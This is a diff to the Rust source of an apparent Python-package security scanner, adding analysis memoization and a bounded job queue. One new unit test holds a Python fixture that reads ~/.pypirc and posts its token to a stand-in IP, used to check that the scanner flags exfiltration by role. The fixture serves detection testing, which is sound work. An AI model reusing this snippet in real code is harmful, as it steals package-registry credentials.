@@ -271,7 +271,7 @@ struct Job {
 }
 
 /// What a worker finds in one member.
-#[derive(Default)]
+#[derive(Default, Clone)]
 struct Analysed {
     findings: Vec<MemberFinding>,
     /// Files the member runs as code (`exec(open(P).read())`).
@@ -283,7 +283,22 @@ struct Analysed {
 }
 
 impl Analysed {
+    /// The member's analysis, from the memo when the same bytes were
+    /// analysed in the same circumstances earlier in this process.
     fn of(rules: &rules::Rules, job: &Job) -> Self {
+        if job.data.len() < memo::MIN_BYTES {
+            return Self::fresh(rules, job);
+        }
+        let key = memo::Key::of(job);
+        if let Some(hit) = memo::get(&key) {
+            return hit;
+        }
+        let found = Self::fresh(rules, job);
+        memo::put(key, &found);
+        found
+    }
+
+    fn fresh(rules: &rules::Rules, job: &Job) -> Self {
         let findings = analyze::analyze(rules, &job.path, &job.data, job.role);
         if !job.python {
             return Self {
@@ -309,6 +324,75 @@ impl Analysed {
     }
 }
 
+/// Analyses of members already analysed in this process. An sdist and its
+/// wheels ship the same files, and so do a release and the one before it:
+/// each distinct file is analysed once per audit.
+///
+/// The key is everything [`Analysed::fresh`] reads: the bytes (by sha256,
+/// so no crafted file can share the entry of another), the roles, whether
+/// the path names Python, and the project name the path's first component
+/// gives. The memo keeps analyses only, never bytes, and holds a bounded
+/// number of them.
+mod memo {
+    use std::collections::HashMap;
+    use std::sync::{Mutex, OnceLock};
+
+    use sha2::Digest;
+
+    use super::{Analysed, Job, analyze};
+
+    #[derive(Hash, PartialEq, Eq)]
+    pub(super) struct Key {
+        sha256: [u8; 32],
+        role: analyze::Role,
+        own_role: analyze::Role,
+        python: bool,
+        python_name: bool,
+        project: Vec<String>,
+    }
+
+    impl Key {
+        pub(super) fn of(job: &Job) -> Self {
+            let lower = job.path.to_ascii_lowercase();
+            Self {
+                sha256: sha2::Sha256::digest(&job.data).into(),
+                role: job.role,
+                own_role: analyze::role(&job.path, &[]),
+                python: job.python,
+                python_name: lower.ends_with(".py") || lower.ends_with(".pyw"),
+                project: analyze::project_tokens(&job.path),
+            }
+        }
+    }
+
+    /// Most analyses kept; past it the memo starts again (an audit of a few
+    /// hundred packages holds some tens of thousands of distinct files).
+    const MAX_ENTRIES: usize = 200_000;
+
+    /// Members smaller than this are analysed again rather than hashed and
+    /// looked up (the look-up costs about as much).
+    pub(super) const MIN_BYTES: usize = 256;
+
+    fn map() -> std::sync::MutexGuard<'static, HashMap<Key, Analysed>> {
+        static MAP: OnceLock<Mutex<HashMap<Key, Analysed>>> = OnceLock::new();
+        MAP.get_or_init(Mutex::default)
+            .lock()
+            .unwrap_or_else(std::sync::PoisonError::into_inner)
+    }
+
+    pub(super) fn get(key: &Key) -> Option<Analysed> {
+        map().get(key).cloned()
+    }
+
+    pub(super) fn put(key: Key, found: &Analysed) {
+        let mut map = map();
+        if map.len() >= MAX_ENTRIES {
+            map.clear();
+        }
+        map.insert(key, found.clone());
+    }
+}
+
 /// Text members analysed as they are read: the reading thread queues them,
 /// workers analyse them meanwhile, and the reader joins the workers once
 /// the archive is read. Each member is independent; results keep the
@@ -317,11 +401,22 @@ impl Analysed {
 struct JobQueue {
     state: std::sync::Mutex<QueueState>,
     ready: std::sync::Condvar,
+    /// Signalled when a worker takes a job: a reader waiting for room.
+    room: std::sync::Condvar,
 }
+
+/// Bytes of member text waiting in the queue before the reader waits for
+/// the workers: a reader that inflates faster than they analyse would
+/// otherwise hold the whole archive's text.
+const QUEUED_BYTES: usize = 8 << 20;
 
 #[derive(Default)]
 struct QueueState {
     waiting: std::collections::VecDeque<(usize, Job)>,
+    /// Bytes of the members in `waiting`.
+    waiting_bytes: usize,
+    /// A worker panicked: the reader no longer waits for room.
+    broken: bool,
     queued: usize,
     closed: bool,
     /// Analysed members (their bytes dropped), in any order.
@@ -339,6 +434,15 @@ impl JobQueue {
 
     fn push(&self, job: Job) {
         let mut s = self.state();
+        // Workers always exist while the reader pushes (and take jobs until
+        // the queue is closed), so the wait ends.
+        while s.waiting_bytes > QUEUED_BYTES && !s.waiting.is_empty() && !s.broken {
+            s = self
+                .room
+                .wait(s)
+                .unwrap_or_else(std::sync::PoisonError::into_inner);
+        }
+        s.waiting_bytes += job.data.len();
         let i = s.queued;
         s.queued += 1;
         s.waiting.push_back((i, job));
@@ -354,10 +458,24 @@ impl JobQueue {
 
     /// Analyses members until the queue is closed and empty.
     fn work(&self, rules: &rules::Rules) {
+        // A worker that unwinds says so: the reader stops waiting for room
+        // that no worker would make (the panic is reported at the join).
+        struct Leaving<'a>(&'a JobQueue);
+        impl Drop for Leaving<'_> {
+            fn drop(&mut self) {
+                if std::thread::panicking() {
+                    self.0.state().broken = true;
+                    self.0.room.notify_all();
+                }
+            }
+        }
+        let _leaving = Leaving(self);
         loop {
             let mut s = self.state();
             let (i, mut job) = loop {
                 if let Some(next) = s.waiting.pop_front() {
+                    s.waiting_bytes -= next.1.data.len();
+                    self.room.notify_one();
                     break next;
                 }
                 if s.closed {
@@ -1138,6 +1256,53 @@ mod tests {
             .iter()
             .map(|(m, f)| (f.rule, m.clone()))
             .collect()
+    }
+
+    #[test]
+    fn the_memo_shares_an_analysis_only_where_everything_it_reads_is_the_same() {
+        // The same bytes as a package's `__init__` (critical: runs on
+        // import), as one of its modules (high), and in the same package's
+        // sdist and wheel: each is judged in its own role, whatever was
+        // analysed before in this process.
+        let code = b"import os, requests\n# the memo test's own module, long enough to be kept in the memo: a few\n# more words of comment so that it passes the memo's smallest size, which\n# smaller files do not (they are analysed again rather than hashed).\n\ndef send():\n    token = open(os.path.expanduser('~/.pypirc')).read()\n    requests.post('http://203.0.113.77/memo-test', data=token)\n\nsend()\n";
+        assert!(code.len() >= memo::MIN_BYTES);
+        let worst = |scan: &ArchiveScan| {
+            scan.findings
+                .iter()
+                .filter(|(_, f)| f.rule == RuleId::Exfiltration)
+                .map(|(p, f)| (p.clone().unwrap_or_default(), f.severity))
+                .max_by_key(|(_, s)| *s)
+        };
+        let as_init = scan_bytes(
+            "memo-1.0.tar.gz",
+            &targz(&[("memo-1.0/memo/__init__.py", code)]),
+            &Limits::default(),
+        )
+        .unwrap();
+        let as_module = scan_bytes(
+            "memo-1.0.tar.gz",
+            &targz(&[("memo-1.0/memo/send.py", code)]),
+            &Limits::default(),
+        )
+        .unwrap();
+        let in_wheel = scan_bytes(
+            "memo-1.0-py3-none-any.whl",
+            &zip(&[("memo/send.py", code)]),
+            &Limits::default(),
+        )
+        .unwrap();
+        let (_, init_severity) = worst(&as_init).expect("found in the __init__");
+        let (path, module_severity) = worst(&as_module).expect("found in the module");
+        assert_eq!(
+            (init_severity, module_severity),
+            (Severity::Critical, Severity::High)
+        );
+        assert_eq!(path, "memo-1.0/memo/send.py");
+        // The wheel's copy: the same judgement, at its own path.
+        assert_eq!(
+            worst(&in_wheel),
+            Some(("memo/send.py".to_string(), module_severity))
+        );
     }
 
     #[test]
